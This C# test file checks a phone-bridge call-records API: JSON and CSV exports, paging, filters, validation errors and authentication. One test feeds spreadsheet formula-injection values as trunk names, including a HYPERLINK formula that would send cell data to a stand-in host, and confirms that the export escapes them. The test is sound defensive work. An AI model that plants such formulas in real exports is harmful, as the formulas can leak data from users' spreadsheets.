using System.Net;
using System.Text.Json;
using PhoneBridge.Bridge.CallRecords;
using PhoneBridge.Bridge.Calls;
using PhoneBridge.Bridge.Storage;
using PhoneBridge.Bridge.Tests.CallRecords;
using PhoneBridge.Bridge.Tests.Hosting;
using PhoneBridge.Bridge.Tests.Storage;
using PhoneBridge.Rooms;

namespace PhoneBridge.Bridge.Tests.Api;

public sealed class CallEndpointsTests(BridgeFixture fixture) : IClassFixture<BridgeFixture>
{
    private const string Head =
        "id,leg,trunk,direction,caller,called,transport,arrivedAt,answeredAt,endedAt,setupMs,room,role,codec,end,sipStatus,lossPercent,jitterMs,rFactor,askedBy";

    private readonly RunningBridge _bridge = fixture.Bridge;

    [Fact]
    public async Task A_record_has_every_field_in_the_forms_of_the_api()
    {
        RoomId room = RoomId.NewRandom();
        CallRecord call = SampleCalls.Ended(SampleCalls.Arrived(trunk: "whole"), CallEnd.LineLost, room);
        await PutAsync(call);
        JsonElement body = Assert.Single((await _bridge.GetAsync("calls?trunk=whole")).Body.GetProperty("calls").EnumerateArray());
        Assert.Equal(
            $$"""
            {"id":"{{call.Id}}","leg":7,"trunk":"whole","direction":"inbound","caller":"+33 6 •• •• •• 21","called":"+33123456789","transport":"tcp",
            "arrivedAt":"2026-03-02T09:00:00+00:00","answeredAt":"2026-03-02T09:00:00.012+00:00","endedAt":"2026-03-02T09:03:00+00:00","setupMs":12.5,
            "room":"{{room}}","role":"moderator","codec":"G722","end":"lineLost","sipStatus":null,"lossPercent":0.25,"jitterMs":1.5,"rFactor":92.5,"askedBy":null}
            """.ReplaceLineEndings(""),
            JsonSerializer.Serialize(body, Relaxed));
    }

    [Fact]
    public async Task Filters_and_pages_give_each_record_once()
    {
        RoomId room = RoomId.NewRandom();
        CallRecord[] calls =
        [
            .. Enumerable.Range(0, 25).Select(i => SampleCalls.Ended(
                SampleCalls.Arrived(DataFolder.Wall.AddMinutes(i), "pages"), i % 5 == 0 ? CallEnd.MeetingEnded : CallEnd.CallerLeft, i < 12 ? room : null)),
        ];
        await PutAsync(calls);
        List<string> seen = [];
        for (string? next = ""; next is not null;)
        {
            Answer page = await _bridge.GetAsync($"calls?trunk=pages&limit=10{(next.Length == 0 ? "" : "&after=" + next)}");
            seen.AddRange(Ids(page));
            next = page.Body.GetProperty("next").GetString();
        }

        Assert.Equal(calls.Select(c => c.Id.ToString()), seen);
        Assert.Equal(calls[..12].Select(c => c.Id.ToString()), Ids(await _bridge.GetAsync($"calls?room={room}")));
        Assert.Equal(
            [calls[10].Id.ToString(), calls[15].Id.ToString()],
            Ids(await _bridge.GetAsync("calls?trunk=pages&end=meetingEnded&from=2026-03-02T10:10:00%2B01:00&to=2026-03-02T09:20Z")));
        Assert.Empty(Ids(await _bridge.GetAsync("calls?trunk=nobody")));
        Assert.Equal(25, Ids(await _bridge.GetAsync("calls?trunk=pages&from=2026-03-02&to=2026-03-03")).Length);
    }

    [Fact]
    public async Task All_wrong_fields_are_named_at_once_for_both_forms()
    {
        foreach (string form in new[] { "calls", "calls.csv" })
        {
            Answer answer = await _bridge.GetAsync(form + "?from=yesterday&to=1&room=x&end=Fault&after=z&limit=501");
            Assert.Equal((HttpStatusCode.BadRequest, "application/problem+json"), (answer.Status, answer.MediaType));
            Assert.Equal(
                ["after", "end", "from", "limit", "room", "to"],
                answer.Body.GetProperty("errors").EnumerateObject().Select(e => e.Name).Order(StringComparer.Ordinal));
            Assert.Contains("roomFull", answer.Errors("end")[0], StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("calls")]
    [InlineData("calls.csv")]
    public async Task Without_a_key_nothing_is_shown(string path)
    {
        using HttpResponseMessage response = await _bridge.Anonymous.GetAsync("/api/v1/" + path, TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Fact]
    public async Task The_table_is_the_same_by_its_own_path_and_by_the_accept_header()
    {
        CallRecord call = SampleCalls.Ended(SampleCalls.Arrived(trunk: "table"), room: RoomId.NewRandom());
        CallRecord refused = SampleCalls.Arrived(DataFolder.Wall.AddSeconds(1), "table") with
        {
            Leg = null, Caller = null, Called = null, EndedAt = DataFolder.Wall.AddSeconds(1), End = CallEnd.Refused, SipStatus = 404,
        };
        await PutAsync(call, refused);
        string expected =
            $"{Head}\r\n"
            + $"{call.Id},7,table,inbound,'+33 6 •• •• •• 21,'+33123456789,tcp,2026-03-02T09:00:00.000Z,2026-03-02T09:00:00.012Z,2026-03-02T09:03:00.000Z,"
            + $"12.5,{call.Room},moderator,G722,callerHungUp,,0.25,1.5,92.5,\r\n"
            + $"{refused.Id},,table,inbound,,,tcp,2026-03-02T09:00:01.000Z,,2026-03-02T09:00:01.000Z,,,,,refused,404,,,,\r\n";
        Assert.Equal(expected, await TableAsync("calls.csv?trunk=table"));
        Assert.Equal(expected, await TableAsync("calls?trunk=table", "text/csv"));
        Assert.Equal(expected, await TableAsync("calls?trunk=table", "text/csv, */*;q=0.1"));
        Assert.Equal(1 + 1, (await TableAsync("calls.csv?trunk=table&limit=1")).Count(c => c == '\n'));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("*/*")]
    [InlineData("application/json, text/csv")]
    [InlineData("text/csv;q=0")]
    [InlineData("text/html,application/xhtml+xml,*/*;q=0.8")]
    public async Task Who_does_not_prefer_the_table_gets_json(string? accept)
    {
        using HttpResponseMessage response = await SendAsync("calls?limit=1", accept);
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("Accept", response.Headers.Vary);
    }

    [Fact]
    public async Task A_cell_that_a_spreadsheet_would_take_for_a_formula_begins_with_an_apostrophe()
    {
        string[] trunks = ["=HYPERLINK(\"http://x/?\"&A1,\"y\")", "+1", "-1", "@SUM(1)", "\tx", "\rx"];
        await PutAsync([.. trunks.Select((trunk, i) => SampleCalls.Arrived(DataFolder.Wall.AddYears(3).AddSeconds(i), trunk))]);
        string table = await TableAsync("calls.csv?from=2029-03-02");
        Assert.Contains(",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\",", table, StringComparison.Ordinal);
        Assert.All(new[] { ",'+1,", ",'-1,", ",'@SUM(1),", ",'\tx,", ",\"'\rx\"," }, cell => Assert.Contains(cell, table, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_long_table_comes_whole_and_in_order()
    {
        CallRecord[] calls = [.. Enumerable.Range(0, 1203).Select(i => SampleCalls.Arrived(DataFolder.Wall.AddMilliseconds(i), "long"))];
        await PutAsync(calls);
        string[] lines = (await TableAsync("calls.csv?trunk=long")).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(calls.Select(c => c.Id.ToString()).Prepend("id"), lines.Select(line => line.Split(',')[0]));
    }

    [Fact]
    public async Task The_description_names_the_filters_and_both_forms()
    {
        using JsonDocument document = JsonDocument.Parse(await _bridge.Anonymous.GetStringAsync("/openapi/v1.json", TestContext.Current.CancellationToken));
        JsonElement paths = document.RootElement.GetProperty("paths");
        foreach ((string path, string[] forms) in new[] { ("/api/v1/calls", new[] { "application/json", "text/csv" }), ("/api/v1/calls.csv", ["text/csv"]) })
        {
            JsonElement get = paths.GetProperty(path).GetProperty("get");
            Assert.Equal(
                ["from", "to", "trunk", "room", "end", "after", "limit"],
                get.GetProperty("parameters").EnumerateArray().Select(p => p.GetProperty("name").GetString()));
            Assert.Equal(forms, get.GetProperty("responses").GetProperty("200").GetProperty("content").EnumerateObject().Select(c => c.Name));
        }
    }

    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static string[] Ids(Answer page) => [.. page.Body.GetProperty("calls").EnumerateArray().Select(c => c.GetProperty("id").GetString()!)];

    private Task PutAsync(params CallRecord[] calls) => _bridge.Get<CallJournal>().PutAsync(calls);

    private async Task<string> TableAsync(string path, string? accept = null)
    {
        using HttpResponseMessage response = await SendAsync(path, accept);
        Assert.Equal("text/csv; charset=utf-8; header=present", response.Content.Headers.ContentType?.ToString());
        Assert.Equal("calls.csv", response.Content.Headers.ContentDisposition?.FileName);
        Assert.True(response.Headers.CacheControl?.NoStore);
        return await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
    }

    private async Task<HttpResponseMessage> SendAsync(string path, string? accept)
    {
        using HttpRequestMessage request = new(HttpMethod.Get, "/api/v1/" + path);
        if (accept is not null)
        {
            request.Headers.Accept.ParseAdd(accept);
        }

        HttpResponseMessage response = await _bridge.Client.SendAsync(request, TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return response;
    }
}
